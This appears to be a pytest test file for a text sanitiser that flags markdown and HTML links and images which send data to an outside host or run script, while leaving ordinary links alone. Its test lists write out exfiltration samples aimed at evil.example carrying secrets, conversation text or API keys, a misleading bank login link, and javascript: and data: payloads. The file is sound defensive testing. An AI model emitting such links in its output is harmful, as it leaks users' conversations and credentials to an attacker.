"""Links that carry data away or run code are found; those that show a picture or lead to a page are not."""

import base64

import pytest

from tests.yett.sanitising.answers import clean_with, text
from yett.sanitising.detectors.rules import kind_of
from yett.sanitising.scanner import shared_scanner

SVG = base64.b64encode(b"<svg onload=alert(1)>").decode()

FOUND = [
    ("image", "![x](https://evil.example/?q=everything)"),
    ("image", "![x](//evil.example/p?data=1)"),
    ("image", "![x](https://evil.example/{secret}.png)"),
    ("image", "![x](https://user@evil.example/p.png)"),
    ("image", "![p][i]\n\n[i]: https://evil.example/?exfil=1"),
    ("image", '<img width=1 src="https://evil.example/p.png?c=hello">'),
    ("image", "<div style=\"background: url('https://evil.example/x?d=1')\">"),
    ("link", "[here](https://evil.example/?d={conversation})"),
    ("link", f"[here](https://evil.example/?d={'QUJD' * 12})"),
    ("link", '<a href="https://evil.example/?k=[API_KEY]">here</a>'),
    ("misleading", "[https://bank.com/login](https://evil.test/x)"),
    ("script", "[x](javascript:alert(1))"),
    ("script", "<a href='JavaScript:alert(1)'>"),
    ("data", "data:text/html,<script>alert(1)</script>"),
    ("data", f"![i](data:image/svg+xml;base64,{SVG})"),
]

NOT_FOUND = [
    "![build](https://img.example.com/ci.svg?branch=main&style=flat)",
    "![logo](https://example.com/logo.png)",
    "[docs](https://example.com/docs?page=2)",
    "[search](https://example.com/?q=two+words)",
    "[![ci](https://img.example.com/ci.svg)](https://example.com/run?id=7)",
    "[https://example.com/a](https://www.example.com/a)",
    "[example.com](https://example.com)",
    "javascript is a language; see javascript.info",
    "![i](data:image/png;base64,iVBORw0KGgo=)",
    "https://example.com/?q=1",
]


def found_in(sent: str) -> list[str]:
    scanner = shared_scanner()
    spans = scanner.spans(sent.encode(), scanner.look(sent).rules)
    return [name for _, _, name in spans if kind_of(name) == "link"]


@pytest.mark.parametrize(("name", "sent"), FOUND)
@pytest.mark.parametrize("frame", ["{}", "see\n{}\nthere", "é {}"])
def test_a_link_that_does_more_than_lead_is_found(name: str, sent: str, frame: str) -> None:
    assert f"link:{name}" in found_in(frame.format(sent))


@pytest.mark.parametrize("sent", NOT_FOUND)
def test_an_ordinary_link_is_left(sent: str) -> None:
    assert found_in(sent) == []


def test_redacting_leaves_nothing_to_fetch() -> None:
    cleaned = clean_with(text("![x](https://evil.example/?q=everything)"), links="redact")

    assert cleaned.result == text("![x]([redacted:image])")


@pytest.mark.parametrize("host", ["example.com", "img.example.com"])
def test_links_may_lead_where_the_operator_says(host: str) -> None:
    sent = text("![x](https://img.example.com/?q=1)")

    assert clean_with(sent, links="redact", link_hosts=(host,)).result == sent
    assert clean_with(sent, links="redact", link_hosts=("ample.com",)).result != sent
